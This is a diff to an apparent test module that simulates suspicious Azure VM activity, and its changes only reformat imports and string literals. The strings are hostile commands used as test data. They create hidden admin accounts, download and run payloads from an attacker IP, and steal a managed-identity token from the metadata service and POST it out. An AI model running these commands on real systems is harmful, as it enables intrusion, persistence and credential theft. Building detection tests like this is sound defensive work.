@@ -14,8 +14,23 @@ from dataclasses import replace
 from datetime import datetime, timedelta
 
 from tests.activity_sim.events import RUN_COMMAND, VM_WRITE, run_command_body, vm_body, vm_response
-from tests.activity_sim.fleet import (ADE, CSE, DSC, MONITORING, NVIDIA, VMACCESS, Caller, CallerKind, Os, Subscription,
-                                      Vm, gpu_driver_for, human, new_uuid, service_principal)
+from tests.activity_sim.fleet import (
+    ADE,
+    CSE,
+    DSC,
+    MONITORING,
+    NVIDIA,
+    VMACCESS,
+    Caller,
+    CallerKind,
+    Os,
+    Subscription,
+    Vm,
+    gpu_driver_for,
+    human,
+    new_uuid,
+    service_principal,
+)
 from tests.activity_sim.labels import Case
 from tests.activity_sim.routine import Routine, ade_settings, gpu_settings
 from tests.activity_sim.world import World
@@ -35,8 +50,8 @@ def suspicious_cse_command(os: Os, ip: str, pick: int) -> dict[str, object]:
         commands = (
             f"powershell -nop -w hidden -enc {_b64_utf16(cradle)}",
             "cmd /c net user helpdesk$ Winter2026! /add & net localgroup administrators helpdesk$ /add",
-            f"powershell -ep bypass -c \"iwr http://{ip}/svc.exe -OutFile C:\\Windows\\Temp\\svc.exe; "
-            f"Start-Process C:\\Windows\\Temp\\svc.exe\"",
+            (f"powershell -ep bypass -c \"iwr http://{ip}/svc.exe -OutFile C:\\Windows\\Temp\\svc.exe; "
+            f"Start-Process C:\\Windows\\Temp\\svc.exe\""),
         )
     else:
         commands = (
@@ -50,15 +65,15 @@ def suspicious_cse_command(os: Os, ip: str, pick: int) -> dict[str, object]:
 def suspicious_run_command(os: Os, ip: str, pick: int) -> list[str]:
     if os is Os.WINDOWS:
         scripts = (
-            ["netsh interface portproxy add v4tov4 listenport=8080 listenaddress=0.0.0.0 connectport=80 "
-             "connectaddress=169.254.169.254"],
+            [("netsh interface portproxy add v4tov4 listenport=8080 listenaddress=0.0.0.0 connectport=80 "
+             "connectaddress=169.254.169.254")],
             ["net user svc_backup P@ssw0rd123! /add", "net localgroup administrators svc_backup /add"],
             [f"IEX (New-Object Net.WebClient).DownloadString('http://{ip}/stage2.ps1')"],
         )
     else:
         scripts = (
-            ["curl -s -H Metadata:true 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01"
-             f"&resource=https://management.azure.com/' | curl -s -X POST -d @- http://{ip}/t"],
+            [("curl -s -H Metadata:true 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01"
+             f"&resource=https://management.azure.com/' | curl -s -X POST -d @- http://{ip}/t")],
             ["useradd -m -s /bin/bash sysadm", "echo 'sysadm:Passw0rd!' | chpasswd", "usermod -aG sudo sysadm"],
             [f"curl -fsSL http://{ip}/k.sh | bash"],
         )
